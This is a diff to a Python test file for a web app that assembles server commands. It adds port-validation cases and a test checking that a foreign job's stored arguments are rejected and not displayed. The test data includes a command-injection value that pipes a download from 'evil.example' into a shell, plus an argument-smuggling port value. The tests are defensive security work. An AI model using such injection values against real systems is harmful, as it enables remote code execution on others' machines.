@@ -116,7 +116,7 @@ def test_a_server_gets_a_free_port(place: Path) -> None:
         assert use_page.find_free_port() > port
     form = ServeForm.model_validate({**MODEL, "port": "7900", "base": "models/a", "blind": "lines.txt"})
     assert list_server_words(place, form)[2:] == ["--port", "7900", "--base", "models/a", "--blind", "lines.txt"]
-    for wrong in ("80", "x", "7900 --host 0.0.0.0"):
+    for wrong in ("80", "x", "7900 --host 0.0.0.0", "٧٩٠٠", "9" * 5000):
         with pytest.raises(UserError, match="give a port"):
             list_server_words(place, ServeForm.model_validate({**MODEL, "port": wrong}))
 
@@ -152,6 +152,17 @@ def test_changed_settings_begin_with_those_of_the_job(path: str, words: list[str
     page = app.ask("GET", path, query=f"from={id}".encode()).body
     fields = json.dumps(read_form(page, path)).encode()
     assert shlex.split(json.loads(app.ask("POST", f"{path}/command", fields).body)["command"]) == ["overtone", *words]
+
+
+def test_words_of_a_foreign_job_are_not_shown_as_code(app: App, place: Path) -> None:
+    words = ["--model", "exports/voice", "--port", "7861; curl evil.example|sh #"]
+    command = {"verb": "serve", "words": words, "page": "/use/serve"}
+    foreign = make_folder(place, command=command, is_own=False).name
+    answer = app.ask("GET", "/use/serve", query=f"from={foreign}".encode())
+    assert answer.status == 400 and b"was not started by you" in answer.body and b"evil.example" not in answer.body
+    own = make_folder(place, command=command).name
+    page = app.ask("GET", "/use/serve", query=f"from={own}".encode())
+    assert page.status == 200 and b"evil.example" not in page.body and b"curl http://127.0.0.1:78" in page.body
 
 
 def test_a_model_is_published_by_the_shown_command(app: App, place: Path) -> None:
